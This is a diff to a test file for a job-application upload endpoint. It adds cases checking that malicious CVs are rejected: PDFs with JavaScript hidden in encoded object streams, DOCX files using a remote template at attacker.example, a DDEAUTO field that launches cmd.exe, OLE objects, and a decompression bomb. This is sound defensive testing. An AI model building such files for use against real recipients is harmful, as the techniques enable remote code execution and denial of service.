@@ -15,7 +15,13 @@ import { partnersRepository } from '../src/repositories/partners.ts';
 import { TOO_MANY_REQUESTS } from '../src/middleware/rate-limit.ts';
 import { CV_GONE, CV_LINK_EXPIRED, CV_LINK_INVALID } from '../src/routes/applications.ts';
 import {
+  asciiHex,
+  docxBomb,
   docxBytes,
+  docxWithEmbeddedOle,
+  docxWithExternalOle,
+  docxWithField,
+  docxWithTemplate,
   executableBytes,
   multipartBody,
   pdfBytes,
@@ -23,7 +29,9 @@ import {
   pdfWithEscapedJavaScript,
   pdfWithJavaScript,
   pdfWithJavaScriptInObjectStream,
+  pdfWithObjectStream,
 } from './cv-files.ts';
+import { zlibSync } from 'fflate';
 import { fixtureContent } from './fixtures.ts';
 import { countRows, createTestDatabase, dialects, expectNoLeak, startTestServer, type TestDatabase, type TestServer } from './helpers.ts';
 import { SmtpReceiver, WebhookReceiver } from './receivers.ts';
@@ -198,6 +206,23 @@ describe.each(dialects)('job applications on %s', (dialect) => {
       ['a DOCX with the macro-enabled content type', () => ({ bytes: docxBytes({ macroContentType: true }), filename: 'cv.docx' }), APPLICATION_MESSAGES.cvActiveContent],
       ['a .docm', () => ({ bytes: docxBytes(), filename: 'cv.docm' }), APPLICATION_MESSAGES.cvActiveContent],
       ['an empty file', () => ({ bytes: Buffer.alloc(0), filename: 'cv.pdf' }), APPLICATION_MESSAGES.cvEmpty],
+      ['a PDF with JavaScript in an /ASCIIHexDecode object stream', () => ({ bytes: pdfWithObjectStream({ dict: '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', encode: asciiHex }), filename: 'cv.pdf' }), APPLICATION_MESSAGES.cvActiveContent],
+      [
+        'a PDF with JavaScript in an [/ASCIIHexDecode /FlateDecode] object stream',
+        () => ({ bytes: pdfWithObjectStream({ dict: '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', encode: (data) => asciiHex(Buffer.from(zlibSync(data))) }), filename: 'cv.pdf' }),
+        APPLICATION_MESSAGES.cvActiveContent,
+      ],
+      ['a PDF object stream with a key containing "obj" after /Type /ObjStm', () => ({ bytes: pdfWithObjectStream({ dict: '/Type /ObjStm /Nobj true /N 1 /First 4 /Filter /FlateDecode' }), filename: 'cv.pdf' }), APPLICATION_MESSAGES.cvActiveContent],
+      [
+        'a PDF object stream whose dictionary is padded past 2,000 bytes',
+        () => ({ bytes: pdfWithObjectStream({ dict: `/Type /ObjStm /Pad (${'x'.repeat(2500)}) /N 1 /First 4 /Filter /FlateDecode` }), filename: 'cv.pdf' }),
+        APPLICATION_MESSAGES.cvActiveContent,
+      ],
+      ['a DOCX with a remote template', () => ({ bytes: docxWithTemplate('https://attacker.example/t.dotm'), filename: 'cv.docx' }), APPLICATION_MESSAGES.cvActiveContent],
+      ['a DOCX with a DDEAUTO field', () => ({ bytes: docxWithField(' DDE', 'AUTO c:\\windows\\system32\\cmd.exe "/k calc"'), filename: 'cv.docx' }), APPLICATION_MESSAGES.cvActiveContent],
+      ['a DOCX with an embedded OLE object', () => ({ bytes: docxWithEmbeddedOle(), filename: 'cv.docx' }), APPLICATION_MESSAGES.cvActiveContent],
+      ['a DOCX with an external oleObject relationship', () => ({ bytes: docxWithExternalOle(), filename: 'cv.docx' }), APPLICATION_MESSAGES.cvActiveContent],
+      ['a 1.5 MB DOCX whose [Content_Types].xml inflates to 1.5 GB (declaring 1,000 bytes)', () => ({ bytes: docxBomb(), filename: 'cv.docx' }), APPLICATION_MESSAGES.cvType],
     ])('refuses %s with 400 errors.cv and stores nothing', async (_, make, message) => {
       const response = await apply('job-1', form(fields, make()));
       expect(response.status).toBe(400);
